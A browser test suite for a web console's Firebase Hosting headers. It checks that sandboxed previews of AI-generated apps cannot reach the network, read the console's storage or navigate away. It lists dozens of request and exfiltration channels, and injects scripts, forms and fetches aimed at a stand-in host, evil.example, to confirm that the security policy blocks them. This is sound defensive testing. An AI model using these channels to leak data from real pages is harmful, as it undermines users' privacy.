// The console's pages as Hosting serves them: their headers, and what an app in a
// preview can reach. "The internet" is a server that counts who comes.

import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { readFile, readdir } from "node:fs/promises";
import { createServer } from "node:http";
import { after, test } from "node:test";
import { profile } from "./browser.mjs";

const hosting = process.env.HOSTING; // on 127.0.0.1
const direct = async (what) => (await fetch(process.env.CONTROL, { method: "POST", body: JSON.stringify(what) })).json();
const root = new URL("../../../", import.meta.url);
const pages = ["/", "/index.html", "/run.html", "/tab.html", "/preview.html", "/preview-network.html"];

/** Serves `html` to everybody, and counts connections, requests and datagrams. */
async function internet(html = "") {
  const count = { requests: [], connections: 0, datagrams: 0 };
  const server = createServer((request, response) => {
    count.requests.push(`${request.method} ${request.url}`);
    response.setHeader("Access-Control-Allow-Origin", "*");
    response.setHeader("Content-Type", "text/html");
    response.end(html);
  });
  server.on("connection", () => count.connections++);
  server.on("upgrade", (request, socket) => {
    count.requests.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  const udp = createSocket("udp4", () => count.datagrams++);
  await new Promise((resolve) => udp.bind(server.address().port, "127.0.0.1", resolve));
  after(() => {
    server.closeAllConnections();
    server.close();
    udp.close();
  });
  return { port: server.address().port, url: `http://127.0.0.1:${server.address().port}`, count };
}

/** Opens the console, signed in, with more of its configuration. */
async function openConsole(t, { context = null, ...config } = {}) {
  context ??= await profile(t);
  await context.route("**/local.json", (route) => route.fulfill({
    json: { functionsUrl: process.env.FUNCTIONS, auth: process.env.FIREBASE_AUTH_EMULATOR_HOST, firebase: { projectId: "demo-dreambuild", apiKey: "any", appId: "1:1:web:1" }, ...config },
  }));
  await context.addInitScript(() => addEventListener("securitypolicyviolation", (e) => {
    (globalThis.violations ??= []).push(`${e.effectiveDirective} ${e.blockedURI}`);
  }));
  const page = await context.newPage();
  await page.goto(hosting);
  await page.getByRole("button", { name: "Go on as a guest" }).click();
  await page.getByRole("button", { name: "Create" }).waitFor();
  await page.waitForLoadState("networkidle"); // what the lists say moves the buttons, and a click between two places is none
  return page;
}

const violations = (page) => page.evaluate(() => globalThis.violations ?? []);

/** Has the worker answer with an app, and shows it in the console. Returns the app's frame, once the app has begun. */
async function show(page, html) {
  const prompt = `an app ${crypto.randomUUID()}`;
  await direct({ prompt, say: ["```html\n", html, "\n```\n"] });
  await page.locator("textarea").fill(prompt);
  await page.getByRole("button", { name: "Create" }).click();
  await page.getByText(/^Saved: .*, version 1, by scripted/).waitFor();
  const fence = await (await page.waitForSelector('iframe[title="Preview"]')).contentFrame();
  const inner = await (await fence.waitForSelector('iframe[title="App"]', { state: "attached" })).contentFrame();
  await inner.waitForFunction(() => globalThis.began, null, { polling: 20 }); // frames are not painted where nobody looks
  return inner;
}

const app = (script, body = "") => `<!DOCTYPE html>\n<html><head><title>app</title></head><body>${body}\n<script>\n${script}\nglobalThis.began = true;\n</script></body></html>`;

// Each way is tried by itself: one that throws does not hide the others.
const ways = {
  fetch: "fetch(far + '/fetch')",
  "fetch, opaque": "fetch(far + '/opaque', { mode: 'no-cors' })",
  keepalive: "fetch(far + '/keepalive', { keepalive: true, method: 'POST', body: 'x', mode: 'no-cors' })",
  XMLHttpRequest: "{ const x = new XMLHttpRequest(); x.open('GET', far + '/xhr'); x.send(); }",
  sendBeacon: "navigator.sendBeacon(far + '/beacon', 'x')",
  EventSource: "new EventSource(far + '/events')",
  WebSocket: "new WebSocket(far.replace('http', 'ws') + '/socket')",
  WebTransport: "new WebTransport(far.replace('http:', 'https:') + '/transport')",
  WebRTC: "{ const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + far.slice(7) }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); }",
  image: "new Image().src = far + '/image'",
  "image of a set": "add('img', { srcset: far + '/srcset 2x' })",
  "image of a style": "document.body.style.backgroundImage = `url(${far}/background)`",
  "image of SVG": "document.body.insertAdjacentHTML('beforeend', `<svg><image href=\"${far}/svg\"/><use href=\"${far}/use#a\"/></svg>`)",
  script: "add('script', { src: far + '/script' })",
  "module script": "add('script', { src: far + '/module', type: 'module' })",
  "import()": "import(far + '/import')",
  "import() in data:": "import('data:text/javascript,' + encodeURIComponent(`fetch('${far}/fromdata'); import('${far}/importfromdata')`))",
  stylesheet: "add('link', { rel: 'stylesheet', href: far + '/style' })",
  "@import": "add('style', { textContent: `@import '${far}/atimport';` })",
  font: "new FontFace('f', `url(${far}/font)`).load()",
  video: "add('video', { src: far + '/video', poster: far + '/poster', autoplay: true })",
  audio: "new Audio(far + '/audio').load()",
  track: "add('video', { innerHTML: `<track default src=\"${far}/track\">` })",
  frame: "add('iframe', { src: far + '/frame' })",
  "frame with srcdoc": "add('iframe', { srcdoc: `<img src='${far}/nestedimage'><script>fetch('${far}/nestedfetch')<\\/script>` })",
  "frame that leaves": "{ const f = add('iframe'); f.contentWindow.location = far + '/leaves'; }",
  "frame of a blob": "add('iframe', { src: URL.createObjectURL(new Blob([`<img src='${far}/blobimage'><script>fetch('${far}/blobfetch')<\\/script>`], { type: 'text/html' })) })",
  "frame of data": "add('iframe', { src: 'data:text/html,' + encodeURIComponent(`<img src='${far}/dataimage'>`) })",
  object: "add('object', { data: far + '/object' })",
  embed: "add('embed', { src: far + '/embed' })",
  prefetch: "add('link', { rel: 'prefetch', href: far + '/prefetch' })",
  preload: "add('link', { rel: 'preload', as: 'image', href: far + '/preload' })",
  modulepreload: "add('link', { rel: 'modulepreload', href: far + '/modulepreload' })",
  preconnect: "add('link', { rel: 'preconnect', href: far })",
  "dns-prefetch": "add('link', { rel: 'dns-prefetch', href: far })",
  manifest: "add('link', { rel: 'manifest', href: far + '/manifest' })",
  icon: "add('link', { rel: 'icon', href: far + '/icon' })",
  speculation: "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [far + '/speculation'] }], prerender: [{ urls: [far + '/prerender'] }] }) })",
  worker: "new Worker(URL.createObjectURL(new Blob([`fetch('${far}/worker'); importScripts('${far}/importscripts')`])))",
  "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('${far}/shared')`])))",
  popup: "window.open(far + '/popup')",
  "link to a new tab": "add('a', { href: far + '/blank', target: '_blank' }).click()",
  "link to the top": "add('a', { href: far + '/top', target: '_top' }).click()",
  ping: "add('a', { href: far + '/pinged', target: '_blank', ping: far + '/ping' }).click()",
  form: "add('form', { action: far + '/form', method: 'post' }).submit()",
  "form to a new tab": "add('form', { action: far + '/formblank', target: '_blank' }).submit()",
  base: "add('base', { href: far + '/base/' }), add('img', { src: 'relative' })",
  "the top's address": "top.location = far + '/toplocation'",
  "the parent's address": "parent.location = far + '/parentlocation'",
  "a policy that reports": "add('meta', { httpEquiv: 'Content-Security-Policy', content: `img-src 'none'; report-uri ${far}/report` }), new Image().src = 'data:,'",
};

/** An app that tries all of them on an address. */
const reaching = (far) => app(`const far = ${JSON.stringify(far)};
globalThis.tried = [];
const add = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties));
for (const [way, go] of ${JSON.stringify(Object.entries(ways)).replaceAll("</script", "<\\/script")}) {
  try { Promise.resolve((0, eval)("(far, add) => { " + go + " }")(far, add)).catch(() => {}); } catch {}
  tried.push(way);
}`, `<img src="${far}/inmarkup"><script src="${far}/scriptinmarkup"></script>`);

test("an app in a preview reaches no network", async (t) => {
  const [far, control] = [await internet(), await internet()];
  const page = await openConsole(t);
  const inner = await show(page, reaching(far.url));
  assert.deepEqual(await inner.evaluate(() => globalThis.tried), Object.keys(ways));
  // The same app in a frame without a policy, later: when its attempts have arrived,
  // those of the preview would have, too.
  const open = await page.context().newPage();
  await open.setContent("<iframe sandbox='allow-scripts'></iframe>");
  await open.evaluate((html) => (document.querySelector("iframe").srcdoc = html), reaching(control.url));
  const arrived = () => new Set(control.count.requests).size >= 25 && control.count.datagrams > 0;
  for (const deadline = Date.now() + 30_000; !arrived();) {
    assert.ok(Date.now() < deadline, `without a policy only these arrived: ${JSON.stringify(control.count)}`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  t.diagnostic(`${Object.keys(ways).length} ways; without a policy ${new Set(control.count.requests).size} different requests arrive`);
  assert.deepEqual(far.count, { requests: [], connections: 0, datagrams: 0 });
  assert.equal(page.url(), `${hosting}/`);
});

test("an app in a preview cannot go elsewhere, and takes nobody along", async (t) => {
  const far = await internet();
  const page = await openConsole(t);
  for (const go of [
    "location.href = far",
    "location.replace(far)",
    "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${far}'>`)",
    "document.body.appendChild(Object.assign(document.createElement('a'), { href: far })).click()",
  ]) {
    const inner = await show(page, app(""));
    await inner.evaluate(([go, far]) => void setTimeout(() => (0, eval)(`(far) => { ${go} }`)(far)), [go, far.url]);
    for (const deadline = Date.now() + 30_000; !inner.url().startsWith("chrome-error:");) {
      assert.ok(Date.now() < deadline, `${go}: the frame is at ${inner.url()}`);
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  }
  // A link to nowhere, as many apps have them, leaves the app where it is.
  const inner = await show(page, app("", '<a href="#there">x</a>'));
  await inner.evaluate(() => document.querySelector("a").click());
  assert.deepEqual(await inner.evaluate(() => [location.hash, globalThis.began]), ["#there", true]);
  assert.deepEqual(far.count, { requests: [], connections: 0, datagrams: 0 });
  assert.equal(page.url(), `${hosting}/`);
});

test("an app in a preview reads nothing of the console, and has storage of its own, which the browser does not keep", async (t) => {
  const page = await openConsole(t);
  const inner = await show(page, app(""));
  assert.deepEqual(await inner.evaluate(() => [location.href, self.origin, isSecureContext]), [`${hosting.replace("127.0.0.1", "localhost")}/preview.html`, "null", true]);
  const heard = await inner.evaluate(async () => {
    const tries = {
      "the console's document": () => top.document,
      "the console's storage": () => top.localStorage,
      "the console's address": () => top.location.href,
      "the document around it": () => parent.document,
      "the frame's element": () => (frameElement === null ? Promise.reject({ name: "SecurityError" }) : frameElement),
      indexedDB: () => new Promise((resolve, reject) => Object.assign(indexedDB.open("x"), { onsuccess: resolve, onerror: (e) => reject(e.target.error) })),
      caches: () => caches.open("x"),
      "the private file system": () => navigator.storage.getDirectory(),
    };
    const heard = {};
    for (const [what, go] of Object.entries(tries)) heard[what] = await Promise.resolve().then(go).then(() => "read", (error) => error.name);
    return heard;
  });
  const { indexedDB, ...rest } = heard;
  assert.equal(indexedDB, "Error", "the event of a database that does not open");
  assert.deepEqual([...new Set(Object.values(rest))], ["SecurityError"], JSON.stringify(heard));
  assert.deepEqual(await inner.evaluate(() => [document.cookie, localStorage.length, sessionStorage.length, [localStorage, sessionStorage].some((area) => area instanceof Storage)]), ["", 0, 0, false]);
});

test("a preview takes one document, from the page around it alone", async (t) => {
  const page = await openConsole(t);
  const inner = await show(page, app("addEventListener('message', () => (globalThis.messages = (globalThis.messages ?? 0) + 1));", "<h1>first</h1>"));
  const arrived = (frame, n) => frame.waitForFunction((n) => globalThis.messages === n, n, { polling: 20 });
  await page.evaluate(() => frames[0].frames[0].postMessage({ document: "<h1>second" }, "*"));
  await arrived(inner, 1);
  assert.equal(await inner.locator("h1").textContent(), "first");
  // An opener is not around it.
  const opener = await page.context().newPage();
  await opener.goto(`${hosting}/config.json`);
  const [popup] = await Promise.all([page.context().waitForEvent("page"), opener.evaluate((url) => void (globalThis.opened = open(url)), `${hosting}/preview.html`)]);
  await popup.waitForLoadState();
  await popup.evaluate(() => addEventListener("message", () => (globalThis.messages = (globalThis.messages ?? 0) + 1)));
  await opener.evaluate(() => globalThis.opened.postMessage({ document: "<h1>from an opener" }, "*"));
  await arrived(popup, 1);
  await popup.evaluate(() => postMessage({ document: "<h1>from itself" }, "*"));
  await arrived(popup, 2);
  assert.equal(await popup.locator("h1").count(), 0);
});

test("an app's endless loop does not stop the console", async (t) => {
  const page = await openConsole(t);
  const inner = await show(page, app(""));
  let ended = false;
  inner.evaluate(() => {
    for (;;);
  }).then(() => (ended = true), () => {});
  await page.locator("textarea").fill("the console still answers");
  assert.equal(await page.locator("textarea").inputValue(), "the console still answers");
  await page.getByRole("button", { name: "Sign out" }).click();
  await page.getByRole("button", { name: "Go on as a guest" }).waitFor();
  assert.equal(ended, false);
});

test("nobody frames the console, and only the console frames previews", async (t) => {
  const far = await internet("<!DOCTYPE html><title>far</title>");
  const page = await (await profile(t)).newPage();
  // framed returns the title of a page in a frame: that of an error page is "".
  const framed = async (from, url) => {
    await page.goto(from);
    await page.evaluate((src) => new Promise((resolve) => document.body.append(Object.assign(document.createElement("iframe"), { src, onload: resolve }))), url);
    return page.frames()[1].evaluate(() => document.title);
  };
  const site = hosting.replace("127.0.0.1", "localhost");
  for (const path of ["/", "/index.html", "/run.html", "/tab.html"]) {
    for (const from of [far.url, `${hosting}/config.json`, `${site}/config.json`]) assert.equal(await framed(from, hosting + path), "", `${path} from ${from}`);
  }
  assert.equal(await framed(far.url.replace("127.0.0.1", "other.localhost"), `${hosting}/preview.html`), "");
  assert.equal(await framed(far.url, `${site}/preview.html`), "Preview"); // any port of this machine, in the local suite
});

test("the cross-origin isolated page shows previews, too", async (t) => {
  const page = await openConsole(t);
  const inner = await show(page, app("", "<h1>shown</h1>"));
  const [srcdoc, src] = [await page.locator('iframe[title="Preview"]').getAttribute("srcdoc"), inner.url()];
  await page.goto(`${hosting}/run.html?model=none`);
  assert.equal(await page.evaluate(() => globalThis.crossOriginIsolated), true);
  // As the library does it; no model runs here that would answer.
  await page.evaluate(([srcdoc, src]) => {
    const [fence, app] = [srcdoc, src].map(() => document.createElement("iframe"));
    app.setAttribute("sandbox", "allow-scripts");
    app.src = src;
    app.onload = () => app.contentWindow.postMessage({ document: "<h1>isolated" }, "*");
    fence.srcdoc = srcdoc;
    fence.onload = () => fence.contentDocument.body.append(app);
    document.body.append(fence);
  }, [srcdoc, src]);
  await page.frameLocator("iframe").frameLocator("iframe").getByText("isolated").waitFor();
  assert.deepEqual(await violations(page), []);
});

test("an app opens in a tab of its own, not on the console's origin, and is downloaded", async (t) => {
  const page = await openConsole(t);
  await show(page, app("document.body.append('started');", "<h1>mine</h1>"));
  const item = page.locator("#projects li").first();
  const [tab] = await Promise.all([page.context().waitForEvent("page"), item.getByRole("link", { name: "Open in a tab" }).click()]);
  const inner = await (await (await (await tab.waitForSelector('iframe[title="Preview"]')).contentFrame()).waitForSelector('iframe[title="App"]', { state: "attached" })).contentFrame();
  await inner.waitForFunction(() => globalThis.began, null, { polling: 20 });
  assert.match(await inner.evaluate(() => document.body.innerText), /^mine\s+started/);
  assert.deepEqual(await inner.evaluate(() => [self.origin, new URL(location.href).origin]), ["null", hosting.replace("127.0.0.1", "localhost")]);
  assert.deepEqual([new URL(tab.url()).pathname, await tab.evaluate(() => opener), await violations(tab)], ["/tab.html", null, []]);

  const [file] = await Promise.all([page.waitForEvent("download"), item.getByRole("button", { name: "Download" }).click()]);
  assert.match(file.suggestedFilename(), /\.html$/);
  assert.match(await readFile(await file.path(), "utf8"), /<h1>mine<\/h1>/);
  assert.deepEqual(await violations(page), []);
});

test("a tab of an app without a user, or without a project, is the console", async (t) => {
  const page = await openConsole(t);
  await page.goto(`${hosting}/tab.html`);
  await page.waitForURL(`${hosting}/`);
  await page.getByRole("button", { name: "Sign out" }).click();
  await page.getByRole("button", { name: "Go on as a guest" }).waitFor();
  await page.goto(`${hosting}/tab.html?project=any`);
  await page.waitForURL(`${hosting}/`);
});

test("what is injected into the console does not run", async (t) => {
  const page = await openConsole(t);
  await page.evaluate(() => {
    document.body.insertAdjacentHTML("beforeend", "<img src='data:,' onerror='globalThis.ran = 1'><a href='javascript:globalThis.ran = 2' id='js'>x</a>");
    document.querySelector("#js").click();
    document.body.append(Object.assign(document.createElement("script"), { textContent: "globalThis.ran = 3" }));
    for (const src of ["data:text/javascript,globalThis.ran=4", URL.createObjectURL(new Blob(["globalThis.ran = 5"])), "https://evil.example/x.js", "https://www.google.com/other.js"]) document.body.append(Object.assign(document.createElement("script"), { src }));
    document.body.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" }));
    document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example/" }));
    document.body.append(Object.assign(document.createElement("style"), { textContent: "body { color: red }" }));
    new Image().src = "https://evil.example/image";
    fetch("https://evil.example/").catch(() => {});
    setTimeout("globalThis.ran = 6");
    document.body.append(Object.assign(document.createElement("form"), { action: "https://evil.example/form" }));
    document.body.lastChild.submit();
  });
  const want = [
    "base-uri https://evil.example/", "connect-src https://evil.example/", "form-action https://evil.example/form?", "frame-src https://evil.example", "img-src https://evil.example/image",
    "script-src eval", "script-src-attr inline", "script-src-elem blob", "script-src-elem data", "script-src-elem https://evil.example/x.js", "script-src-elem https://www.google.com/other.js", "script-src-elem inline", "style-src-elem inline",
  ];
  await page.waitForFunction((n) => new Set(globalThis.violations).size >= n, want.length, { polling: 20 });
  assert.deepEqual([...new Set(await violations(page))].sort(), want);
  assert.equal(await page.evaluate(() => globalThis.ran), undefined);
});

// What Firebase's SDK loads. Signing in by popup opens authDomain's /__/auth/handler, and
// frames its /__/auth/iframe by the help of gapi, which is a script of apis.google.com;
// the Auth and App Check SDKs load reCAPTCHA from www.google.com, which loads the rest of
// itself from www.gstatic.com/recaptcha/ and frames www.google.com/recaptcha/.
test("the console may load what Firebase's SDK does, by its source", async (t) => {
  const modules = new URL("internal/node_modules/@firebase/", root);
  const auth = (await readdir(new URL("auth/dist/esm/", modules))).filter((name) => /^index-.*\.js$/.test(name));
  const text = (await Promise.all([...auth.map((name) => `auth/dist/esm/${name}`), "app-check/dist/esm/index.esm.js"].map((name) => readFile(new URL(name, modules), "utf8")))).join("\n");
  const scripts = [...new Set([...text.matchAll(/(?:Script: |_URL = )'(https:[^']+\.js)/g)].map(([, url]) => url))].sort();
  assert.deepEqual(scripts, ["https://apis.google.com/js/api.js", "https://www.google.com/recaptcha/api.js", "https://www.google.com/recaptcha/enterprise.js"]);
  const hosts = ["identitytoolkit.googleapis.com", "securetoken.googleapis.com", "content-firebaseappcheck.googleapis.com"];
  assert.deepEqual(hosts.filter((host) => !text.includes(host)), []);
  assert.ok(text.includes("__/auth/iframe"));

  const page = await openConsole(t);
  await page.context().route(/^https:/, (route) => route.fulfill({ headers: { "Access-Control-Allow-Origin": "*", "Cross-Origin-Resource-Policy": "cross-origin", "Content-Type": route.request().resourceType() === "script" ? "text/javascript" : "text/html" }, body: "" }));
  await page.evaluate(async ({ scripts, fetches, frames }) => {
    const loaded = (tag, src) => new Promise((resolve, reject) => document.body.append(Object.assign(document.createElement(tag), { src, onload: resolve, onerror: () => reject(new Error(src)) })));
    for (const src of scripts) await loaded("script", src);
    for (const src of frames) await loaded("iframe", src);
    for (const url of fetches) await fetch(url);
  }, {
    scripts: [...scripts, "https://www.gstatic.com/recaptcha/releases/x/recaptcha__en.js"],
    fetches: [...hosts.map((host) => `https://${host}/v1/x`), "https://storage.googleapis.com/bucket/x", "https://backend-abc.a.run.app/generateCode"],
    frames: ["https://demo-dreambuild.firebaseapp.com/__/auth/iframe", "https://www.google.com/recaptcha/enterprise/anchor"],
  });
  assert.deepEqual(await violations(page), []);
});

// Google's part is a stand-in: a script that gives a captcha's answer, and a service that
// makes a token of it.
for (const [provider, script, exchange] of [
  ["recaptchaV3", "globalThis.grecaptcha = { ready: (f) => f(), render: (_, { callback }) => callback(), execute: async () => 'captcha' }", "exchangeRecaptchaV3Token"],
  ["recaptchaEnterprise", "globalThis.grecaptcha = { enterprise: { ready: (f) => f(), render: (_, { callback }) => callback(), execute: async () => 'captcha' } }", "exchangeRecaptchaEnterpriseToken"],
]) {
  test(`each call of the console carries an App Check token, by ${provider}`, async (t) => {
    const context = await profile(t);
    const jwt = ["{}", '{"iat":1,"exp":9999999999}', "x"].map((part) => Buffer.from(part).toString("base64url")).join(".");
    await context.route("https://www.google.com/recaptcha/*", (route) => route.fulfill({ contentType: "text/javascript", body: script }));
    const exchanged = [];
    await context.route("https://content-firebaseappcheck.googleapis.com/**", (route) => {
      exchanged.push(new URL(route.request().url()).pathname);
      return route.fulfill({ headers: { "Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "*" }, json: { token: jwt, ttl: "3600s" } });
    });
    const calls = {};
    context.on("request", (request) => {
      if (request.method() === "POST" && /\/(listProjects|openModelSession|generateCode)$/.test(request.url())) calls[new URL(request.url()).pathname] = request.headers()["x-firebase-appcheck"];
    });
    const page = await openConsole(t, { context, appCheck: { [provider]: "site-key" } });
    await show(page, app(""));
    assert.deepEqual(calls, { "/listProjects": jwt, "/openModelSession": jwt, "/generateCode": jwt });
    assert.ok(exchanged.length > 0 && exchanged.every((path) => path === `/v1/projects/demo-dreambuild/apps/1:1:web:1:${exchange}`), `${exchanged}`);
    assert.deepEqual(await violations(page), []);
  });
}

test("every page has its headers", async () => {
  const built = (await readdir(new URL("internal/console/dist/", root))).filter((name) => name.endsWith(".html"));
  assert.deepEqual(built.filter((name) => !pages.includes(`/${name}`)), [], "pages without a policy in firebase.json");
  for (const path of pages) {
    const { headers } = await fetch(hosting + path);
    const policy = Object.fromEntries(headers.get("Content-Security-Policy").split("; ").map((d) => [d.split(" ")[0], d]));
    const preview = path.startsWith("/preview");
    assert.deepEqual({
      type: headers.get("X-Content-Type-Options"), referrer: headers.get("Referrer-Policy"), camera: headers.get("Permissions-Policy").includes("camera=()"),
      base: policy["base-uri"], objects: policy["object-src"], otherwise: policy["default-src"], forms: policy["form-action"], sandbox: policy.sandbox, embedder: headers.get("Cross-Origin-Embedder-Policy"),
    }, {
      type: "nosniff", referrer: "no-referrer", camera: true, base: "base-uri 'none'", objects: "object-src 'none'", otherwise: "default-src 'none'", forms: "form-action 'none'",
      sandbox: preview ? "sandbox allow-scripts allow-forms allow-downloads allow-modals" : undefined,
      embedder: { "/preview.html": "require-corp", "/run.html": "require-corp", "/preview-network.html": "credentialless" }[path] ?? null,
    }, path);
    if (path === "/preview.html") assert.ok(!/https?:|\*/.test(policy["script-src"] + policy["connect-src"] + policy["img-src"]), "this page reaches nothing");
    if (!preview) assert.ok(!/unsafe-inline|unsafe-eval'|\*[ ;]|http:\/\/(?!127|localhost)/.test(policy["script-src"].replace("'wasm-unsafe-eval'", "")), policy["script-src"]);
  }
  assert.equal((await fetch(`${hosting}/app/index.js`)).headers.get("X-Content-Type-Options"), "nosniff");
});
